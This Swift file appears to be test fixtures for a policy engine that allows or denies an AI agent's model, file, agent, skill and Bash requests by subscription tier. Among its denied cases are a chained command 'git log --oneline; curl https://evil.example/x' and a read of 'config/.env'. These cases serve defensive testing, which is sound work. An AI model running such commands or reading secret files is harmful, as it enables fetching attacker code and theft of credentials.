import PolicyLanguage
import StrictJSON

/// One request, as every engine can be asked it, and what must come out.
struct Request {
    enum Kind { case model, path, name, bash }

    let kind: Kind
    let subject: String
    let call: Call
    /// Basis points of the budget that are used.
    let budget: Int64
    var ip: String?
    let isAllowed: Bool

    /// Those that Cedar can be asked too.
    static let peers = [
        model("free", "haiku", 1_000, true), model("free", "opus", 1_000, false),
        path("free", "Read", "src/main.swift", true), path("free", "Read", "config/.env", false),
        path("free", "Write", "src/main.swift", false), model("pro", "opus", 7_900, true),
        model("pro", "haiku", 10_000, false), path("pro", "Grep", "Sources/PolicyLanguage/Deciding", true),
        name("enterprise", .agent("security-auditor"), true), name("enterprise", .skill("dependency-audit"), true),
        path("enterprise", "Write", "Sources/a/b/c.swift", true),
        Request(
            kind: .name, subject: "acme", call: .tool("WebSearch", .object([])), budget: 1_000, ip: "203.0.113.9",
            isAllowed: false),
    ]

    /// Commands, which no peer reads: 96 bytes in three parts, and others.
    static let own = [
        bash("pro", threeParts, true), bash("pro", "git log --oneline; curl https://evil.example/x", false),
        bash("enterprise", "cd Sources && ls -la", true), bash("free", "ls", false),
    ]

    static let threeParts =
        "git status --short --branch && swift test --filter PolicyLanguage 2>&1 | tee -a build/policy.log"

    private static func model(_ subject: String, _ name: String, _ budget: Int64, _ isAllowed: Bool) -> Request {
        Request(kind: .model, subject: subject, call: .model(name), budget: budget, isAllowed: isAllowed)
    }

    private static func path(_ subject: String, _ tool: String, _ path: String, _ isAllowed: Bool) -> Request {
        let field = tool == "Grep" ? "path" : "file_path"
        let call = Call.tool(tool, .members([field: .string(path)]))
        return Request(kind: .path, subject: subject, call: call, budget: 1_000, isAllowed: isAllowed)
    }

    private static func name(_ subject: String, _ call: Call, _ isAllowed: Bool) -> Request {
        Request(kind: .name, subject: subject, call: call, budget: 1_000, isAllowed: isAllowed)
    }

    private static func bash(_ subject: String, _ script: String, _ isAllowed: Bool) -> Request {
        let call = Call.tool("Bash", .members(["command": .string(script)]))
        return Request(kind: .bash, subject: subject, call: call, budget: 1_000, isAllowed: isAllowed)
    }

    /// As a line of a report.
    var text: String {
        switch call {
        case .model(let name): "\(subject): model \(name)"
        case .agent(let name): "\(subject): agent \(name)"
        case .skill(let name): "\(subject): skill \(name)"
        case .offered(let name): "\(subject): offered \(name)"
        case .domain(let name): "\(subject): domain \(name)"
        case .tool(let name, let input, _): "\(subject): \(name) \(input.members?.first?.value.string ?? "")"
        }
    }
}
